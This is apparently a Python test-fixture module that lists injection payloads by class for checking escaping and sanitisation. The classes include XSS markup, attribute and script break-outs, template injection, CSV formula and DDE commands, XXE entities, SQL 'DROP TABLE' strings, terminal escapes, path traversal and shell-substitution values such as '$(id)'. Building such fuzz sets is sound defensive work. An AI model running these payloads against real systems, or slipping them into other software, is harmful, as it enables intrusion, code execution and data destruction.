r"""Texts that do harm where text does not stay text, in classes by the reader that takes them for more.

What would run sets `window.__pwned`; what would load asks the host `pwned.invalid`.
"""

from __future__ import annotations

import unicodedata
from collections.abc import Iterable
from dataclasses import dataclass

RUN = "window.__pwned=1"
HOST = "pwned.invalid"
URL = f"https://{HOST}/x"
IMAGE = f"<img src=x onerror={RUN}>"


@dataclass(frozen=True, slots=True)
class Payload:
    kind: str
    text: str

    def __str__(self) -> str:
        return f"{self.kind}: {self.text.encode('unicode_escape').decode()}"


MARKUP = (
    f"<script>{RUN}</script>",
    f"<ScRiPt >{RUN}</sCrIpT\t>",
    f'<script src="{URL}.js"></script>',
    IMAGE,
    f'<img src="{URL}.png" alt="">',
    f'<img srcset="{URL}.png 2x">',
    f"<svg onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<svg><a xlink:href='javascript:{RUN}'><text y=9>x</text></a></svg>",
    f"<math><mtext><table><mglyph><style><!--</style>{IMAGE}",
    f"<details open ontoggle={RUN}>",
    f"<input autofocus onfocus={RUN}>",
    f"<video><source onerror={RUN}></video>",
    f"<body onload={RUN}>",
    f"<marquee onstart={RUN}>",
    f'<iframe srcdoc="<script>parent.{RUN.removeprefix("window.")}</script>"></iframe>',
    f'<iframe src="{URL}"></iframe>',
    f'<object data="{URL}"></object>',
    f'<embed src="{URL}">',
    f'<meta http-equiv="refresh" content="0;url={URL}">',
    f'<base href="https://{HOST}/">',
    f'<link rel="stylesheet" href="{URL}.css">',
    f"<form action={URL}><button autofocus>x</button></form>",
    f"<style>@import '{URL}.css';</style>",
    f'<noscript><p title="</noscript>{IMAGE}">',
    f"<template>{IMAGE}</template>",
    "<plaintext>",
    "<textarea>",
    "<b>bold</b>",
    f"&lt;script&gt;{RUN}&lt;/script&gt;",
    f"&#60;img src=x onerror={RUN}&#62;",
)

ATTRIBUTES = tuple(
    f"{quote}{space}{attack}"
    for quote, space in (('"', " "), ("'", " "), ("`", " "), ("", " "), ('"', "/"))
    for attack in (
        f"onmouseover={RUN} x=",
        f"autofocus onfocus={RUN} tabindex=1 x=",
        f"style=background:url({URL}.png) x=",
        f">{IMAGE}<a title=",
    )
)

SCRIPT_ENDS = (
    f"</script><script>{RUN}</script>",
    f"</SCRIPT ><script>{RUN}</script>",
    f"</script/x>{IMAGE}",
    f"<!--<script>{IMAGE}",
    f"</style>{IMAGE}",
    f"</title>{IMAGE}",
    f"</textarea>{IMAGE}",
    f"</noscript>{IMAGE}",
    f"</template>{IMAGE}",
    f"</iframe>{IMAGE}",
    f"</svg>{IMAGE}",
    f"</main></body></html>{IMAGE}",
    f"\\u003c/script\\u003e\\u003cscript\\u003e{RUN}",
    f"<\\/script><script>{RUN}</script>",
    f'";{RUN}//',
    f"';{RUN}//",
    f'\\";{RUN}//',
    f"\\';{RUN}//",
    f"\u2028{RUN}//",
    f"x\u2029{RUN}//",
    f"'-({RUN})-'",
    "ends in a backslash \\",
)

COMMENTS = (
    "<!--", "-->", "--!>", "<!-->", "<!--->",
    f"<!-- --!>{IMAGE}",
    f"--><script>{RUN}</script><!--",
    "<!-- <!--> -->",
    "<![CDATA[", "<!DOCTYPE html>", "<?php phpinfo(); ?>", "<%-- x --%>",
    "/*", f"*/{RUN}/*", f"//\n{RUN}", "#", "%", '"""', '<!--#exec cmd="id" -->',
)  # fmt: skip

TEMPLATE_LITERALS = (
    f"${{{RUN}}}",
    f"`${{{RUN}}}`",
    f"`+({RUN})+`",
    f"`;{RUN};`",
    f"\\${{{RUN}}}",
    f"$${{{RUN}}}",
    f"#{{{RUN}}}",
    f"[[${{{RUN}}}]]",
    f"@{{{RUN}}}",
    f"<%= {RUN} %>",
    f"{{{{constructor.constructor('{RUN}')()}}}}",
    f"{{{{$on.constructor('{RUN}')()}}}}",
    f"${{alert`{RUN}`}}",
    "`",
    "${",
    "$&", "$1", "$`", "$'", "$<name>",
)  # fmt: skip

TEMPLATES = (
    "{{ 7*7 }}",
    "{{ cycler.__init__.__globals__.os.getpid() }}",
    "{{ self._TemplateReference__context }}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{{ this._parent.get_name() }}",
    "{% for x in range(9) %}x{% endfor %}",
    "{% include '/etc/passwd' %}",
    "{% macro script(this, kwargs) %}x{% endmacro %}",
    "{% raw %}", "{% endmacro %}", "{%", "{{", "}}", "{#", "{# x #}",
    "{}", "{0}", "{title}", "{count}", "{name}", "{names}", "{text}", "{0.__class__.__mro__}",
    "{title.__class__}",
    "{:>99999}", "{!r}", "%s", "%(title)s", "%n%n%n", "%99999d", "$title", "first|others",
)  # fmt: skip

URLS = (
    f"javascript:{RUN}",
    f"JaVaScRiPt:{RUN}",
    f" javascript:{RUN}",
    f"java\tscript:{RUN}",
    f"java\nscript:{RUN}",
    f"\x01javascript:{RUN}",
    f"javascript://{HOST}/%0a{RUN}",
    f"&#106;avascript:{RUN}",
    f"data:text/html,<script>{RUN}</script>",
    f"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{RUN}'/>",
    f"vbscript:{RUN}",
    f"//{HOST}/x",
    f"\\\\{HOST}\\x",
    f"https:{HOST}",
    f"https:///{HOST}",
    f"https://user:word@{HOST}/",
    f"https://example.org\\@{HOST}/",
    f'{URL}" onclick="{RUN}',
    f"{URL}'><img>",
    f"{URL}#\u202egro.elpmaxe",
    f"view-source:{URL}",
    "file:///etc/passwd",
    f"ftp://{HOST}/x",
    f"blob:{URL}",
    f"mailto:x@{HOST}",
    "about:blank",
    "https://",
)

STYLES = (
    f"url({URL}.png)",
    f"#000;background:url({URL}.png)",
    f"red}}body{{background:url({URL}.png)",
    f"@import '{URL}.css';",
    f"expression({RUN})",
    f"-moz-binding:url({URL})",
    f"behavior:url({URL})",
    f"</style><style>*{{background:url({URL}.png)}}",
    f"*/}}*{{background:url({URL}.png)}}/*",
    "light-dark(red, blue)",
    "var(--layer-places)",
    "transparent",
    "rgb(0 0 0)",
    "#ffff",
    "#12345g",
    "#\uff10\uff10\uff10",
    "#000\n",
    "\\3c img src=x\\3e",
    "}*{display:none",
    ";position:fixed;inset:0",
)

_INVISIBLE = (
    *range(0x202A, 0x202F), *range(0x2066, 0x206A), *range(0x200B, 0x2010), *range(0x2060, 0x2065),
    0xAD, 0x61C, 0x180E, 0xFEFF, 0x115F, 0x3164, 0xFFF9, 0xE0001, 0xE0041, 0xFE0F, 0xE0100, 0xFFFE, 0xFDD0,
)  # fmt: skip
INVISIBLE = (
    *(f"harm{chr(code)}less" for code in _INVISIBLE),
    "photo\u202egpj.exe",
    "\u2069\u202e breaks out of an isolate",
    "\u2069\u2069\u202c\u202c\u202e closes what it did not open",
    "\u2066" * 130 + "deeper than the algorithm goes",
    "\u202eabc\u202c def \u2067ghi",
    "Z\u0335\u0322\u0321\u0327\u0328\u0300\u0301\u0302\u0303\u0308 many marks",
    "a\ufe0f\ufe0e\U000e0100 selectors in a row",
    "\u05e9\u05dc\u05d5\u05dd (1) \u0645\u0631\u062d\u0628\u0627 [2]",
)

FORMULAS = (
    "=1+1", "+1+1", "-1+1", "@SUM(1)", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "'=1+1", "''", '"=1+1"',
    ",=1+1", ";=1+1",
    "\uff1d1+1", "\uff0b1", "\uff0d1", "\uff20SUM(1)",
    "=cmd|'/C calc'!A0",
    f'=HYPERLINK("{URL}","x")',
    f'=IMPORTXML("{URL}","//a")',
    f'=WEBSERVICE("{URL}")',
    '=DDE("cmd";"/C calc";"x")',
    'x","=1+1',
    "x\r\n=1+1,1",
    "+49 30 123456",
    "-",
)  # fmt: skip

XML = (
    "]]>",
    f"]]><script>{RUN}</script>",
    "<![CDATA[x]]>",
    '<!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><x>&xxe;</x>',
    '<!DOCTYPE x [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;">]><x>&b;</x>',
    "&xxe;", "&amp;", "&lt;", "&", "&&", "&#x41;", "&#0;", "&#xfffe;",
    '<?xml version="1.0" encoding="UTF-7"?>',
    f'<?xml-stylesheet href="{URL}"?>',
    f'<xi:include href="{URL}" xmlns:xi="http://www.w3.org/2001/XInclude"/>',
    "</name><name>x",
    f"</Placemark><NetworkLink><Link><href>{URL}</href></Link></NetworkLink>",
    f"</text><script>{RUN}</script>",
    f"<foreignObject>{IMAGE}</foreignObject>",
    f'<use href="{URL}#x"/>',
    "</main>", "</svg>",
    "x\x0by", "\x08x", "x\ufffe", "x\ufffd", "x\U0010ffff", "\U0001f3f3\ufe0f\u200d\U0001f308",
)  # fmt: skip

SQL = (
    "'; DROP TABLE places; --",
    '"; DROP TABLE "places"; --',
    "Robert'); DROP TABLE quotes;--",
    "' OR '1'='1",
    '" OR ""="',
    "')) UNION SELECT sql FROM sqlite_master --",
    "1; ATTACH DATABASE 'x' AS y",
    "x'); SELECT load_extension('x'); --",
    "SELECT AddGeometryColumn('places')",
    "NULL", "null", "x'00'", "??", ":id", "@id", "$id", "[places]", "`places`", "%' ESCAPE '", "_", "\\'",
)  # fmt: skip

TERMINAL = (
    "\x1b[31mred\x1b[0m",
    "\x1b[2J\x1b[H",
    "\x1b[1A\x1b[2K",
    "\x1bc",
    "\x1b(0",
    "\x1b[8mhidden",
    f"\x1b]8;;{URL}\x1b\\link\x1b]8;;\x1b\\",
    "\x1b]0;title\x07",
    "\x1b]52;c;cHduZWQ=\x07",
    "\x1bP$q\x1b\\",
    "\x9b31mred",
    "\x9d0;title\x9c",
    "real\rfake",
    "back\x08\x08\x08space",
    "bell\x07",
    "\x7f\x7fdeleted",
    "line\u0085next",
    "line\nnext",
    "\x0cpage",
    "x\n::error::injected",
    "::set-output name=x::y",
    "##[error]injected",
    f"[bold red]x[/] [link={URL}]y[/link]",
    "[/]",
)

PATHS = (
    "../../etc/passwd", "..\\..\\windows\\win.ini", "/etc/passwd", "C:\\windows\\win.ini", "C:x",
    f"\\\\{HOST}\\share", "..", ".",
    "~root", "~/.ssh/id_rsa", "%2e%2e%2fetc%2fpasswd", "....//....//etc/passwd", "a/../../b", "file.txt/",
    "file.txt:stream", "CON",
    "aux.txt", ".htaccess", "$HOME", "$(id)", "`id`", "; id", "| id", "&& id", "-rf", "--out=/etc", "*",
    "?", "x\ny.txt",
)  # fmt: skip

PROTOTYPES = (
    "__proto__", "constructor", "prototype", "hasOwnProperty", "toString", "valueOf", "then", "length", "0",
    "-1", "NaN", "undefined",
    "true", "[object Object]", "__proto__[polluted]=1", "constructor.prototype.polluted",
    "__proto__&lang=__proto__", "%E0%A4%A",
    '{"__proto__":{"polluted":1}}', "x&place=constructor#place=x", "place=x,y", "a,b&c=d",
)  # fmt: skip

CLASSES: dict[str, Iterable[str]] = {
    "markup": MARKUP,
    "attribute break-out": ATTRIBUTES,
    "end of script": SCRIPT_ENDS,
    "comment openers": COMMENTS,
    "template literals": TEMPLATE_LITERALS,
    "Jinja and format strings": TEMPLATES,
    "addresses": URLS,
    "CSS": STYLES,
    "bidi and invisible": INVISIBLE,
    "CSV formulas": FORMULAS,
    "XML": XML,
    "SQL": SQL,
    "terminal": TERMINAL,
    "paths and shells": PATHS,
    "prototype keys": PROTOTYPES,
    "numbers and dates": (
        "1e999",
        "-0",
        "0x41",
        "1_000",
        "٣",
        "２０２５",
        "2025-13-45",
        "2025-02-30",
        "1/0",
        "²",
    ),
}

PAYLOADS = tuple(Payload(kind, text) for kind, texts in CLASSES.items() for text in texts)


def escaped(text: str) -> str:
    r"""A text as a double-quoted YAML scalar, which holds any character.

    >>> escaped('a"\x1b')
    '"a\\"\\U0000001b"'
    """

    def character(one: str) -> str:
        plain = (one.isascii() and one.isprintable()) or unicodedata.category(one)[0] in "LNPS"
        return "\\" + one if one in '"\\' else one if plain else f"\\U{ord(one):08x}"

    return '"' + "".join(map(character, text)) + '"'
